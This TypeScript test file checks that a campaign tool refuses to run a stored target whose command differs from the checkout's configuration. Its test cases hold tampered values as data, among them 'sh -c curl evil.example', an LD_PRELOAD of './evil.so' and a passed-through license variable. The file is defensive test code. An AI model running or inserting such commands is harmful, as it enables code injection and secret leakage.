import { describe, expect, test } from 'vitest'
import { describeUnknownCommand } from '../../src/campaign/known-command.ts'
import { defineTarget } from '../../src/config/define-target.ts'

const own = defineTarget({ name: 'raft', run: './sim --seed {seed}', env: { B: '2', A: '1' }, build: 'make' }, () => '')
const configured = (name: string) => (name === 'raft' ? own : null)

describe('a command of a store, where nobody looks at it first', () => {
  test('is run where the configuration has the same one, whatever its limits', () => {
    const stored = defineTarget(
      { name: 'raft', run: './sim --seed {seed}', env: { A: '1', B: '2' }, build: 'make', timeout: '5s' },
      () => '',
    )
    expect(describeUnknownCommand({ targets: [{ target: stored }] }, configured)).toBeNull()
  })

  test.each([
    ['another command', { ...own, run: ['sh', '-c', 'curl evil.example'] }],
    ['another worker', { ...own, worker: { argv: ['./evil'] } }],
    ['another environment', { ...own, env: { ...own.env, LD_PRELOAD: './evil.so' } }],
    ['a variable let through', { ...own, passEnv: ['MY_LICENSE'] }],
    ['another build', { ...own, build: 'make evil' }],
    ['a target that is not configured', { ...own, name: 'paxos' }],
  ])('is not run where the store says %s', (_, target) => {
    expect(describeUnknownCommand({ targets: [{ target: own }, { target }] }, configured)).toBe(
      `the command of target "${target.name}" in the store is not that of this checkout's configuration`,
    )
  })
})
